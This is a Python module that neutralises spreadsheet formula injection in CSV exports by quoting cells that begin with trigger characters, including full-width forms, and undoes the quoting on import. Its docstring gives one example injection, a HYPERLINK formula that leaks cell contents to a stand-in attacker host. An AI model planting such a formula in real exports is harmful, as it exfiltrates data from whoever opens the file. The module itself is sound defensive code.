"""Exports that are safe to open in a spreadsheet program (CSV or formula
injection), and imports that read those exports back unchanged.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK("https://evil.example/?leak="&A2,"Click")``), and
tab, carriage return and line feed can lead one in. OWASP's "CSV Injection"
page lists those seven characters and prefixes such a cell with a single
quote, which makes it text; the csv module then quotes the cell as it needs.

Two more cases are treated the same, as a spreadsheet may turn them into
formulas too: spaces before the trigger (Google Sheets trims them on import
by default) and the full-width forms of ``= + - @`` (U+FF1D, U+FF0B,
U+FF0D, U+FF20, which Japanese and Chinese input methods type, and Excel
reads as their ASCII forms).

Only the text columns (sku, name, description) are neutralised: price and
quantity are numbers we write ourselves, never negative, so they never start
with a trigger and stay plain numbers.

The import undoes it: a cell made of quotes and then a trigger loses one
quote. So that this is exact, the export also prefixes a cell that already
starts with quotes and then a trigger (``'=x`` is written ``''=x``); any
other cell, one that starts with a quote included (``'tis``), is written and
read as it stands. A sku never holds a quote, so ``-5`` is written ``'-5``
and read back ``-5``.
"""

from __future__ import annotations

from decimal import Decimal

from core.items.rows import Cells, Record

# OWASP's list (line feed was added to it in 2025), and the full-width forms.
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
# Spaces a spreadsheet may trim before it reads a cell: ASCII, no-break and
# ideographic.
_SPACES = " \u00a0\u3000"

# A written row: sku, name, description ("" for none), price, quantity.
ExportRow = tuple[str, str, str, Decimal, int]


def _needs_quote(cell: str) -> bool:
    """Whether ``cell``, after any leading quotes and then spaces, starts with
    a trigger."""
    return cell.lstrip(QUOTE).lstrip(_SPACES)[:1] in TRIGGERS  # "" is no trigger


def neutralise(cell: str) -> str:
    """``cell`` as an export writes it: prefixed with a quote if it would
    start a formula, or if it looks like a cell already prefixed."""
    return QUOTE + cell if _needs_quote(cell) else cell


def restore(cell: str) -> str:
    """``cell`` as an import reads it: :func:`neutralise` undone. A cell made
    of quotes and then a trigger loses one quote; any other is kept."""
    # The first test is the usual case, and cheap: most cells have no quote.
    if cell[:1] == QUOTE and _needs_quote(cell):
        return cell[1:]
    return cell


def export_row(record: Record) -> ExportRow:
    """A stored item's CSV cells, its text neutralised."""
    sku, name, description, price, quantity = record
    return neutralise(sku), neutralise(name), neutralise(description or ""), price, quantity


def import_row(cells: Cells) -> Cells:
    """A row's cells as read from a file, its text restored."""
    sku, name, description, price, quantity = cells
    if description is not None:
        description = restore(description)
    return restore(sku), restore(name), description, price, quantity
